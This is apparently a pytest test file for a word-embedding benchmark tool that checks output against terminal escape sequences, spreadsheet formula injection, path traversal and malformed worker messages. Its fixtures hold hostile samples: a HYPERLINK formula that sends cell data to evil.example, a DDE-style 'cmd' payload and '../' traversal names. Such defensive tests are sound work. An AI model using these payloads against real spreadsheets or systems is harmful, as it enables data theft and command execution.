"""Names, words and results that somebody else chose: on a terminal, in files, in spreadsheets, in paths."""

import csv
import io
import json
import os
import signal
import subprocess
import sys
import warnings
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, cast

import numpy as np
import pytest

from bench.benchmarks.history.store import HISTORY, append, load
from bench.benchmarks.plan import make_plan
from bench.benchmarks.records import Results, RunRecord
from bench.benchmarks.signals import SignalReader
from bench.benchmarks.store import RESULTS, load_results
from bench.datasets.errors import InputError
from bench.datasets.printable import one_line, printable, printable_values
from bench.datasets.shards import anchored, find_text
from bench.evaluation.analogy import answer
from bench.evaluation.embeddings import Embeddings, write_embeddings
from bench.evaluation.lookup import fold_ascii, fold_unicode
from bench.evaluation.protocols import Protocol
from bench.evaluation.tasks import find_tasks
from bench.implementations import registry
from bench.implementations.selector import parse_selector
from bench.reports import html, markdown, paper
from bench.reports.export import exporter
from bench.reports.formulas import defused
from bench.reports.merge import groups
from bench.reports.several import report_on
from bench.reports.sources import read_sources
from bench.reports.summary import log_of

ESCAPE = "\x1b]52;c;ZXZpbA==\x07\x1b[31m\x9b2J"
"""Writes to the clipboard, colours, and clears the screen by a control of one character."""


Command = Callable[..., tuple[int, bytes, bytes]]

SCRIPTS = "caf\u00e9 \u6f22 \u05d0 a\u0308 \U0001f468\u200d\U0001f469"


@pytest.fixture
def command_line(
    monkeypatch: pytest.MonkeyPatch, capfdbinary: pytest.CaptureFixture[bytes], tmp_path: Path
) -> Iterator[Callable[..., tuple[int, bytes, bytes]]]:
    """The command line in this process: exit code, stdout and stderr."""
    from bench.__main__ import main

    monkeypatch.setenv("BENCH_CACHE", str(tmp_path / "cache"))
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(warnings, "showwarning", warnings.showwarning)
    handler = signal.getsignal(signal.SIGTERM)

    def run(*arguments: str) -> tuple[int, bytes, bytes]:
        monkeypatch.setattr(sys, "argv", ["bench", *arguments])
        with pytest.raises(SystemExit) as end:
            main()
        return cast(int, end.value.code), *capfdbinary.readouterr()

    yield run
    signal.signal(signal.SIGTERM, handler)


def assert_harmless(output: bytes) -> None:
    text = output.decode("utf-8")
    assert not [sign for sign in text if (ord(sign) < 32 and sign not in "\n\t") or 127 <= ord(sign) < 160], text
    assert "\u202e" not in text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("plain", "plain"),
        (SCRIPTS, SCRIPTS),
        ("a\x1b[0mb", "a\\x1b[0mb"),
        ("a\x9bb\x7f", "a\\x9bb\\x7f"),
        ("\u202eab\u2066", "\\u202eab\\u2066"),
        ("\udcff", "\\udcff"),
        ("a\nb\t", "a\\nb\\t"),
    ],
)  # fmt: skip
def test_what_is_no_sign_of_a_text_is_written_out(text: str, shown: str) -> None:
    assert printable(text) == shown
    assert printable(printable(text)) == shown
    assert printable_values({text: [text, 1, None]}) == {
        printable(text, lines=True): [printable(text, lines=True), 1, None]
    }


def test_a_long_line_loses_its_middle() -> None:
    assert one_line("a" * 3000 + "b" * 3000, 100) == "a" * 72 + " … " + "b" * 25
    assert len(one_line("x" * 9999)) == 2000
    assert one_line("two\r\n  lines\nhere") == "two lines here"
    assert one_line("blanks  stay \t\n where no line\tends ") == "blanks  stay where no line\\tends "
    blanks = " \t" * 2_000_000  # from each of which the end of a line was once looked for: hours
    assert one_line(f"x{blanks}y")[-1] == "y"
    assert one_line(f"x{blanks}\ny") == "x y"


def test_words_and_file_names_cannot_write_to_a_terminal(command_line: Command, tmp_path: Path) -> None:
    words = ["king", f"que{ESCAPE}en", "right\u202eleft", "cut\udcc3"]
    vectors = np.array([[1, 0.1], [1, 0.2], [1, 0.3], [1, 0.4]], np.float32)
    name = f"evil{ESCAPE}.bin".replace("/", "")
    write_embeddings(tmp_path / name, Embeddings(words, vectors), binary=True)
    for arguments in (
        ("evaluate", name, "--neighbors", "king", "--analogy", *words[:3]),
        ("evaluate", name, "--tasks", "wordsim-353"),
        ("evaluate", f"missing{ESCAPE}"),
        ("run", "--corpus", f"missing{ESCAPE}"),
        ("run", "--plan", name),
        ("list", "--plugin", name),
        ("report", name),
    ):
        code, out, told = command_line(*arguments)
        assert_harmless(out)
        assert_harmless(told)
        assert code in (0, 2), told
        assert b"\\x1b" in out + told, "it is told, but not run"


def test_names_that_are_no_text_are_no_fault(command_line: Command, tmp_path: Path) -> None:
    raw = os.fsdecode(b"caf\xe9.txt")
    (tmp_path / raw).write_text("a b c d\n: x\n")
    questions = os.fsdecode(b"set\xe9.txt")
    (tmp_path / questions).write_text("king queen man woman\n")
    vectors = os.fsdecode(b"v\xe9.bin")
    words = ["king", "queen", "man", "woman"]
    write_embeddings(tmp_path / vectors, Embeddings(words, np.eye(4, dtype=np.float32)), binary=True)
    code, out, told = command_line("evaluate", vectors, "--tasks", questions)
    assert code == 0, told
    assert "v\\udce9.bin" in out.decode()
    assert "set\\udce9" in out.decode()
    code, _, told = command_line("run", "--corpus", raw)
    assert code == 2
    assert b"--corpus must be text in UTF-8" in told


def test_a_terminal_that_lacks_a_sign_is_no_fault(tmp_path: Path) -> None:
    write_embeddings(tmp_path / "v.bin", Embeddings(["\u6f22", "\u5b57"], np.ones((2, 2), np.float32)), binary=True)
    done = subprocess.run(
        [sys.executable, "-m", "bench", "evaluate", "v.bin", "--neighbors", "\u6f22"],
        cwd=tmp_path,
        env={**os.environ, "PYTHONIOENCODING": "ascii", "PYTHONUTF8": "0"},
        capture_output=True,
        timeout=120,
    )
    assert done.returncode == 0, done.stderr
    assert b"\\u5b57" in done.stdout


def test_results_are_shown_without_controls_wherever_they_come_from(
    make_results: Callable[..., Results], command_line: Command, tmp_path: Path
) -> None:
    document = json.loads(
        make_results(
            {"implementation": "good", "speeds": [1e6, 2e6]},
            {"implementation": f"evil{ESCAPE}", "speeds": [1e6], "failures": {2: ("failed", f"broke{ESCAPE}\nhere")}},
            corpus={"name": f"corpus{ESCAPE}", "generated": f"made{ESCAPE}"},
            environment={"cpu": {"model": f"cpu{ESCAPE}", f"key{ESCAPE}": [ESCAPE]}},
        ).model_dump_json()
    )
    document["runs"][0]["options"] = {"depth": ESCAPE}
    document["command"] = f"python -m bench {ESCAPE}"
    (tmp_path / RESULTS).write_text(json.dumps(document))
    found = load_results(tmp_path)
    assert "\\u001b" not in found.model_dump_json()
    assert found.runs[-1].reason is not None
    assert "\nhere" in found.runs[-1].reason, "lines stay"
    code, shown, told = command_line("report", str(tmp_path), "--format", "latex,csv,bibtex", "--out", "out")
    assert code == 0, told
    assert_harmless(shown)
    for group in groups(read_sources([tmp_path])):
        (tmp_path / "out" / "report.md").write_text(markdown.render(group.summary))
        (tmp_path / "out" / "report.html").write_text(html.render(group.summary))
    for path in (tmp_path / "out").rglob("*.*"):
        assert b"\x1b" not in path.read_bytes(), path
        assert b"\x07" not in path.read_bytes(), path
    append(found, tmp_path / "kept", revision="0" * 40, repository=tmp_path)
    assert "\\u001b" not in (tmp_path / "kept" / HISTORY).read_text()


def test_a_record_of_a_plug_in_is_printable() -> None:
    fields = {
        "id": "x", "implementation": f"x{ESCAPE}", "status": "failed", "reason": f"{ESCAPE}\nline", "model": "skipgram",
        "loss": "ns", "hyperparameters": {}, "threads": 1, "device": "cpu", "seed": 1, "round": 1,
    }  # fmt: skip
    assert RunRecord(**fields).reason == f"{printable(ESCAPE)}\nline"


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        (FORMULA, f"'{FORMULA}"),
        ("+1+1", "'+1+1"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("-0.5", "-0.5"),
        ("+3e5", "+3e5"),
        ("numba", "numba"),
        ("", ""),
    ],
)
def test_a_formula_becomes_text_and_a_number_stays_one(text: str, safe: str) -> None:
    assert defused(text) == safe


def test_no_field_of_a_csv_file_is_a_formula(make_results: Callable[..., Results], tmp_path: Path) -> None:
    results = make_results(
        {"implementation": FORMULA, "speeds": [1e6, 2e6], "accuracy": -0.25, "version": "@1", "options": {"=a": "=b"}},
        {"implementation": "other", "speeds": [1e6], "failures": {2: ("failed", "=1+1")}, "device": "-1+1"},
        corpus={"name": "+corpus+1"},
        environment={"cpu": {"model": "=cpu"}, "git": {"revision": "@git"}},
    )
    (tmp_path / RESULTS).write_text(results.model_dump_json())
    texts = [exporter("csv").render(results)["runs.csv"].decode()]
    found = groups(read_sources([tmp_path]))
    texts += [paper.written(paper.table(name, found), "csv") for name in ("results", "tasks")]
    numbers = 0
    for text in texts:
        for row in csv.reader(io.StringIO(text)):
            for field in row:
                if field.startswith(("=", "+", "-", "@")):
                    numbers += float(field) < 0  # what is no number fails here
    assert numbers, "numbers below zero are still numbers"
    assert f"'{FORMULA}" in next(iter(csv.reader(io.StringIO(texts[0].split("\n", 1)[1]))))


@pytest.mark.parametrize("run", ["../../../evil", "/tmp/evil", "..", "a/../../b", ".", "", "a\\..\\b", "a\0b"])
def test_a_log_lies_in_its_folder_whatever_the_run_is_called(run: str) -> None:
    parts = Path(log_of(run)).parts
    assert parts[0] == "runs"
    assert len(parts) == 3
    assert ".." not in parts
    assert "\0" not in log_of(run)


def test_results_that_name_places_elsewhere_write_and_delete_nothing_there(
    make_results: Callable[..., Results], tmp_path: Path
) -> None:
    """A merged report copies logs of failed runs, and clears away those of an earlier one."""
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "log.txt").write_text("precious")
    for name in ("one", "two"):
        results: Any = make_results(
            {"implementation": "good", "speeds": [1e6]},
            {"implementation": "bad", "failures": {1: ("failed", "broke")}},
            corpus={"sha256": "ab" * 32},
        )
        document = json.loads(results.model_dump_json())
        for one in document["runs"]:
            if one["status"] == "failed":
                one["id"] = "../../victim" if name == "one" else "../../new"
        (tmp_path / name).mkdir()
        (tmp_path / name / RESULTS).write_text(json.dumps(document))
        (tmp_path / name / "log.txt").write_text("harm")
    (tmp_path / "log.txt").write_text("harm")
    (tmp_path / "new").mkdir()
    (tmp_path / "new" / "log.txt").write_text("harm")
    out = tmp_path / "out"
    report_on([tmp_path / "one", tmp_path / "two"], out, formats=["markdown"])
    hostile = json.loads((out / RESULTS).read_text())
    for one in hostile["runs"]:
        one["id"] = "../../victim"
    (out / RESULTS).write_text(json.dumps(hostile))
    report_on([tmp_path / "one", tmp_path / "two"], out, formats=["markdown"])
    assert (victim / "log.txt").read_text() == "precious"
    assert sorted(path.name for path in tmp_path.iterdir()) == ["log.txt", "new", "one", "out", "two", "victim"]
    assert (tmp_path / "new" / "log.txt").read_text() == "harm"


def test_a_workers_messages_cannot_stop_or_fill_its_launcher() -> None:
    ours, theirs = os.pipe()
    try:
        reader = SignalReader(ours)
        for hostile in (
            b'["train", Infinity, 1]\n', b'["train", 1e999, 1]\n', b'["train", NaN, 1]\n', b"[" * 4000 + b"\n",
            b'["[/bold]", 1, 1]\n', b'["\\u001b[31m", 1, 1]\n', b'[["train"], 1, 1]\n', b'["train", -1, 1]\n',
            b'["train", 99999999999999999999999, 1]\n', b"\xff\n", b"{}\n", b'["train", 1]\n',
        ):  # fmt: skip
            os.write(theirs, hostile)
            assert reader.read() == [], hostile
        for _ in range(100):  # a line without an end
            os.write(theirs, b"x" * 60_000)
            assert reader.read() == []
        assert len(reader._rest) < 10_000
        os.write(theirs, b'["train", 1, 1]\n["train", 2, 5]\n')
        assert reader.read() == [("train", 2, 5)], "the end of that line is not taken for one, the next is"
    finally:
        os.close(ours)
        os.close(theirs)


@pytest.mark.parametrize(
    "selector", ["numba[" + ",".join(f"a{i}=[{','.join(map(str, range(10)))}]" for i in range(12)) + "]"]
)
def test_values_that_multiply_without_end_are_refused(selector: str) -> None:
    with pytest.raises(InputError, match="stands for more than 10,000 combinations"):
        parse_selector(selector)
    with pytest.raises(InputError, match="the grid stands for more than 10,000"):
        make_plan({"vector_size": list(range(1, 200)), "window": list(range(1, 100))})


LONG = "x" * 5000


def test_a_name_that_no_file_can_have_names_nothing(tmp_path: Path) -> None:
    assert find_text(LONG) is None
    assert find_text("~nobody-is-called-this/x") is None
    assert anchored(LONG, tmp_path) is None
    for call in (
        lambda: load_results(Path(LONG)),
        lambda: registry.load_plugin(Path(LONG)),
        lambda: find_tasks([f"./{LONG}"]),
    ):
        with pytest.raises(InputError):
            call()


def test_a_time_without_a_zone_has_its_place_in_a_history(make_results: Callable[..., Results], tmp_path: Path) -> None:
    append(make_results({"implementation": "a", "speeds": [1e6]}), tmp_path, revision="1" * 40, repository=tmp_path)
    line = json.loads((tmp_path / HISTORY).read_text())
    line |= {"created": "0001-01-01T00:00:00", "digest": "other"}
    with (tmp_path / HISTORY).open("a") as file:
        file.write(json.dumps(line) + "\n")
    assert [entry.created.year for entry in load(tmp_path)] == [1, 2026]


# Turkish has an i without a dot, and a capital I with one.


def test_case_is_folded_as_the_two_programs_do_whatever_the_locale() -> None:
    words = ["istanbul", "\u0130stanbul", "\u0131s\u0131", "Isi", "stra\u00dfe", "\u03c2\u03c3", "\u00e9t\u00e9"]
    assert fold_ascii(words) == [
        "ISTANBUL",
        "\u0130STANBUL",
        "\u0131S\u0131",
        "ISI",
        "STRA\u00dfE",
        "\u03c2\u03c3",
        "\u00e9T\u00e9",
    ]
    assert fold_unicode(words) == [
        "ISTANBUL",
        "\u0130STANBUL",
        "ISI",
        "ISI",
        "STRASSE",
        "\u03a3\u03a3",
        "\u00c9T\u00c9",
    ]


def test_a_dotless_i_is_a_letter_of_its_own_in_the_headline_and_gensims_in_gensims() -> None:
    from bench.datasets.question_sets import AnalogySection, AnalogySet

    embeddings = Embeddings(["a", "b", "c", "k\u0131z"], np.eye(4, dtype=np.float32) + 0.1)
    questions = AnalogySet("own", (AnalogySection("all", (("a", "b", "c", "kiz"),)),))
    seen = {
        tool: answer(embeddings, questions, Protocol("own", tool=tool)).seen.tolist()
        for tool in ("compute-accuracy", "gensim")
    }
    assert seen == {"compute-accuracy": [False], "gensim": [True]}
